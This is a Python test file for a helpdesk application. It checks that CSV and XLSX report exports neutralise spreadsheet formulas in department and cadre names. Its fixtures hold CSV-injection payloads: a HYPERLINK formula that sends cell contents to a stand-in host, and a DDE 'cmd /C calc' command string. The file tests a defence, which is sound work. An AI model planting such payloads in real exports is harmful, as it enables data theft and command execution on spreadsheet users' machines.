"""Exports never carry a live formula (issue 17, point 5; docs/SECURITY.md points here).

A name a user can choose — a department's, a cadre's, a category's — comes out of the CSV files with a
leading apostrophe when it starts with = + - @, a tab or a carriage return (OWASP "CSV injection"), while
numbers stay numbers; in XLSX every text is a string cell, never a formula or a link. The CSV answers
say `charset=utf-8` once.
"""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest

from helpdesk.db import utcnow
from helpdesk.extensions import db
from helpdesk.reports.export import report_csv, report_xlsx, safe_text
from helpdesk.reports.services import resolution_report
from tests.api.conftest import bearer  # noqa: F401 - fixtures shared with the API and page tests
from tests.pages.conftest import login, w  # noqa: F401

EVIL_DEPARTMENT = '=HYPERLINK("http://x/?"&A1,"详情")'
EVIL_CADRE = "@SUM(1+1)*cmd|' /C calc'!A0"
STARTS = ["=1+2", "+1", "-2+3", "@A1", "\t=1", "\r=1"]


@pytest.mark.parametrize("value", STARTS)
def test_text_that_would_start_a_formula_gets_an_apostrophe(value):
    assert safe_text(value) == "'" + value


@pytest.mark.parametrize("value", ["川汇区自然资源局", "Land", "2024-03", "1+1", "a=b", "", "'quoted"])
def test_other_text_is_left_as_it_is(value):
    assert safe_text(value) == value


@pytest.fixture()
def evil(w):  # noqa: F811
    """A closed land ticket handled by a department and a cadre with hostile names."""
    w.nr.name = EVIL_DEPARTMENT
    w.nr.name_en = EVIL_DEPARTMENT
    w.liaison.name = EVIL_CADRE
    db.session.flush()
    w.ticket("closed", now=utcnow())
    return w


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def _cells(rows) -> set[str]:
    return {cell for row in rows for cell in row}


@pytest.mark.parametrize("headers", ["machine", "people"])
@pytest.mark.parametrize("value", STARTS)
def test_every_dangerous_start_is_neutralised_in_both_kinds_of_csv(evil, value, headers):
    evil.nr.name = evil.nr.name_en = value
    db.session.flush()
    report = resolution_report(evil.supervisor, group_by="department")
    rows = _csv_rows("".join(report_csv(report, "zh_CN", headers=headers)))
    assert "'" + value in _cells(rows)
    assert not any(cell.startswith(tuple("=+-@\t\r")) for cell in _cells(rows))


def test_numbers_stay_numbers(evil):
    report = resolution_report(evil.supervisor, group_by="department")
    machine = list(csv.DictReader(io.StringIO("".join(report_csv(report)).lstrip("\ufeff"))))
    row = next(r for r in machine if r["label"] == "'" + EVIL_DEPARTMENT)
    assert (row["total"], row["completed"], row["completion_rate"]) == ("1", "1", "1.0")
    assert row["key"] == str(evil.nr.id)
    people = _csv_rows("".join(report_csv(report, "zh_CN", headers="people")))
    named = next(r for r in people if r[0] == "'" + EVIL_DEPARTMENT)
    assert named[1:6] == ["1", "1", "1", "1", "100.0%"]


def test_the_dashboard_csv_neutralises_department_and_cadre_names(evil, login):  # noqa: F811
    client = login(evil.supervisor, "zh_CN")
    by_department = client.get("/dashboard/export.csv?group_by=department&period=all")
    assert by_department.status_code == 200
    assert by_department.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert "'" + EVIL_DEPARTMENT in _cells(_csv_rows(by_department.get_data(as_text=True)))
    by_cadre = client.get("/dashboard/export.csv?group_by=cadre&period=all")
    assert "'" + EVIL_CADRE in _cells(_csv_rows(by_cadre.get_data(as_text=True)))


@pytest.mark.parametrize("headers", ["", "&headers=machine", "&headers=people"])
def test_the_api_csv_neutralises_department_and_cadre_names(evil, client, bearer, headers):  # noqa: F811
    auth = bearer(evil.supervisor)
    response = client.get(f"/api/v1/reports/resolution?format=csv&group_by=department{headers}", headers=auth)
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert "'" + EVIL_DEPARTMENT in _cells(_csv_rows(response.get_data(as_text=True)))
    by_cadre = client.get(f"/api/v1/reports/resolution?format=csv&group_by=cadre{headers}", headers=auth)
    assert "'" + EVIL_CADRE in _cells(_csv_rows(by_cadre.get_data(as_text=True)))


def _formulas(xlsx: bytes) -> list[str]:
    """The worksheets' XML parts that hold a formula element."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")}
    assert parts
    return [name for name, xml in parts.items() if b"<f>" in xml or b"<f " in xml]


@pytest.mark.parametrize("headers", ["machine", "people"])
def test_xlsx_text_cells_are_strings_never_formulas(evil, headers):
    for group_by, name in (("department", EVIL_DEPARTMENT), ("cadre", EVIL_CADRE)):
        report = resolution_report(evil.supervisor, group_by=group_by)
        data = report_xlsx(report, "zh_CN", headers=headers)
        assert _formulas(data) == []
        sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == name]
        assert cells, (group_by, headers)
        assert all(cell.data_type == "s" for cell in cells)  # the exact text, as a string


def test_the_page_and_api_xlsx_carry_no_formula(evil, login, client, bearer):  # noqa: F811
    page = login(evil.supervisor, "zh_CN").get("/dashboard/export.xlsx?group_by=department&period=all")
    assert page.status_code == 200 and _formulas(page.data) == []
    api = client.get(
        "/api/v1/reports/resolution?format=xlsx&group_by=cadre&headers=people", headers=bearer(evil.supervisor)
    )
    assert api.status_code == 200 and _formulas(api.data) == []
